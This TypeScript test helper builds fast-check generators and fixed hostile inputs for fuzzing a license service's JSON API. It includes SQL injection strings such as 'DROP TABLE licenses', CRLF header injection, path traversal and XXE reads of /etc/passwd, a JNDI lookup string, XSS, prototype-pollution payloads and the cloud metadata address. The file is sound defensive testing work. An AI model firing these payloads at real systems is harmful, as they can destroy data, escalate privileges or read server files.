import fc from 'fast-check';

/**
 * JSON text put into a body as it is: what JSON.stringify cannot write (`1e309`, `-0`, 2^63 beyond double
 * precision, duplicate keys, a `__proto__` key) and nesting deeper than a recursive serializer survives.
 */
export class RawJson {
  constructor(readonly text: string) {}
}

/** A property that a generated object leaves out (a required field missing). */
export const OMITTED = Symbol('omitted');

/** JSON text of a generated value; RawJson is inserted verbatim and OMITTED properties are left out. */
export function toJsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map((item) => (item === OMITTED ? 'null' : toJsonText(item))).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    const members = Object.entries(value as Record<string, unknown>)
      .filter(([, item]) => item !== OMITTED && item !== undefined)
      .map(([key, item]) => `${JSON.stringify(key)}:${toJsonText(item)}`);
    return `{${members.join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/** `depth` arrays or objects inside each other, as text: no serializer recursion, however deep. */
export function deeplyNested(depth: number, kind: 'array' | 'object' | 'mixed'): RawJson {
  if (kind === 'array') return new RawJson('['.repeat(depth) + ']'.repeat(depth));
  if (kind === 'object') return new RawJson('{"a":'.repeat(depth) + '1' + '}'.repeat(depth));
  return new RawJson('[{"a":'.repeat(depth) + 'null' + '}]'.repeat(depth));
}

/** Strings long enough to matter but under the 1 MB body limit, built once. */
const HUNDRED_KB = 100_000;
export const HUGE_STRINGS: readonly string[] = [
  'a'.repeat(HUNDRED_KB),
  // Three bytes per character in UTF-8: 120 kB on the wire, 40 000 characters for a length check.
  '€'.repeat(40_000),
  '👍'.repeat(25_000),
  'e\u0301'.repeat(HUNDRED_KB / 2),
  `${'x'.repeat(63)}.`.repeat(HUNDRED_KB / 64),
];

/** A string field that alone takes the body over the 1 MB limit. */
export const OVER_LIMIT_STRING = 'b'.repeat(1_100_000);

const SQL_INJECTION = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE licenses; --",
  '"; DROP TABLE "licenses"; --',
  "1' UNION SELECT NULL, version() --",
  "'); SELECT pg_sleep(3); --",
  "%' AND '%'='",
  '\\',
  "\\'",
  "''",
  '$1',
  "E'\\x00'",
  'NULL',
  "1; UPDATE licenses SET status = 'active'",
  '*/ OR /*',
];

const HEADER_INJECTION = [
  'value\r\nX-Injected: 1',
  '\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
  'a\nSet-Cookie: session=stolen',
  'a\rb',
  '%0d%0aX-Injected:%201',
  '\u010d\u010aX-Injected: 1',
  'line1\u2028line2\u2029',
];

const UNICODE = [
  '\u202Eevil.com\u202C',
  'مرحبا بالعالم',
  'שלום.example.com',
  '\u200F\u200E\u061C',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '\uD800',
  '\uDFFF',
  'a\uD83D',
  '\uDC00\uD800',
  '\u0000',
  'a\u0000b',
  'shop.example.com\u0000.evil.com',
  'e\u0301\u0302\u0303\u0304\u0305',
  'Z̷̢͈̫̞a̸̢̛l̶̨̛g̵̨̛o̵̧̢',
  '\u200B',
  '\uFEFF',
  '\uFFFE\uFFFF',
  'İ',
  'ß',
  'ﬃ',
  'ｓｈｏｐ．ｅｘａｍｐｌｅ．ｃｏｍ',
  'пример.рф',
  'xn--e1afmkfd.xn--p1ai',
  'xn--',
  '\u0085\u00A0\u1680\u3000',
  '\x7f\x1b[31m',
  '\t\v\f',
];

const STRUCTURE = [
  '',
  ' ',
  '  leading and trailing  ',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e',
  '%',
  '%zz',
  '%C0%AF',
  '/',
  '//',
  '?a=1#b',
  ';',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '<script>alert(1)</script>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'javascript:alert(1)',
  '{"nested":"json"}',
  '[]',
  'true',
  'null',
  'undefined',
];

const NUMBERS_AS_STRINGS = [
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '0',
  '1e308',
  '1e309',
  '9223372036854775808',
  '-9223372036854775809',
  '2147483648',
  '0x10',
  '0b101',
  '1_000',
  ' 1',
  '1 ',
  '+1',
  '1.5',
  '01',
  '١٢',
];

const NAMES = [
  'a@b',
  '@',
  'a@b@c.example',
  '"quoted local"@example.com',
  'user+tag@EXAMPLE.COM',
  'x@[127.0.0.1]',
  'localhost',
  '127.0.0.1',
  '[::1]',
  '0.0.0.0',
  '169.254.169.254',
  'http://',
  'https://user:password@shop.example.com:99999/path?q#f',
  'ftp://shop.example.com',
  'file:///etc/passwd',
  '*.example.com',
  'shop.example.com.',
  '.com',
  '-shop.example.com',
  'shop..example.com',
  `${'a'.repeat(64)}.example.com`,
  `${'a.'.repeat(130)}com`,
  'shop_example.com',
  'SHOP.Example.COM',
];

const DATES = [
  '2026-02-30T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '1969-12-31T23:59:59Z',
  '9999-12-31T23:59:59Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '2026-03-02',
  '2026-03-02T09:00:00+25:00',
  '2026-03-02T24:00:00Z',
  '2026-03-02T09:00:00.123456789Z',
  '1772442000',
];

/** Every fixed hostile string, for fields of any type and for path and query parameters. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...SQL_INJECTION,
  ...HEADER_INJECTION,
  ...UNICODE,
  ...STRUCTURE,
  ...NUMBERS_AS_STRINGS,
  ...NAMES,
  ...DATES,
];

/** Numbers at and beyond the edges; RawJson where JSON.stringify would change or refuse them. */
const HOSTILE_NUMBERS: readonly unknown[] = [
  -1,
  0,
  1.5,
  -2147483649,
  2147483648,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
  1e308,
  -1e308,
  5e-324,
  new RawJson('-0'),
  new RawJson('1e309'),
  new RawJson('-1e309'),
  new RawJson('1e-400'),
  new RawJson('9223372036854775808'),
  new RawJson('-9223372036854775809'),
  new RawJson('18446744073709551616'),
  new RawJson('1.0'),
  new RawJson('1E2'),
  new RawJson(`1${'0'.repeat(400)}`),
];

/** Shapes that differ from anything a schema asks for. */
const HOSTILE_SHAPES: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [null],
  [[]],
  { '': '' },
  new RawJson('{"__proto__":{"isAdmin":true,"role":"admin"}}'),
  new RawJson('{"constructor":{"prototype":{"polluted":true}}}'),
  new RawJson('{"a":1,"a":"duplicate"}'),
  new RawJson('"\\u0000"'),
  new RawJson('"\\ud800"'),
  Array.from({ length: 10_000 }, (_, index) => index),
];

const NESTING_DEPTHS = [1_000, 1_500, 5_000, 20_000, 100_000] as const;

/** Nesting 1000 levels deep and more, as arrays, objects or both. */
export const deepNesting: fc.Arbitrary<RawJson> = fc
  .tuple(fc.constantFrom(...NESTING_DEPTHS), fc.constantFrom('array' as const, 'object' as const, 'mixed' as const))
  .map(([depth, kind]) => deeplyNested(depth, kind));

/** A hostile string: a fixed one, random Unicode (lone surrogates included), a huge one, or a mix. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...HOSTILE_STRINGS), fc.constantFrom(...HOSTILE_STRINGS))
      .map(([a, b]) => `${a}${b}`),
  },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE_STRINGS) },
);

/** A value of any JSON type that a schema field does not expect, or nests deeply, or is huge. */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_SHAPES) },
  { weight: 1, arbitrary: deepNesting },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Whole bodies that are not JSON, or not quite: each must be a 4xx, never a 500. */
export const MALFORMED_JSON_BODIES: readonly Buffer[] = [
  '{',
  '}',
  '{"a":}',
  "{'a':1}",
  '{"a":1,}',
  '[1,2',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  'NaN',
  '{"a":NaN}',
  '{"a":Infinity}',
  'undefined',
  '/* comment */ {}',
  '{"a":"\u0001"}',
  '"unterminated',
  '\uFEFF{}',
  ' ',
  '{"a":1e999999999999}',
  '{"a":"\\uZZZZ"}',
  '{"a":"\\ud800\\u0000"}',
  `{"a":"${'\\'.repeat(1001)}"}`,
].map((text) => Buffer.from(text, 'utf8'));

/** Byte sequences that are not UTF-8, or are UTF-8 in a form a decoder must refuse. */
export const INVALID_UTF8_BODIES: readonly Buffer[] = [
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf8]), Buffer.from('"}')]),
  Buffer.concat([Buffer.from('{"'), Buffer.from([0x80, 0x81]), Buffer.from('":1}')]),
  Buffer.from('{"name":"ok"}', 'utf16le'),
];
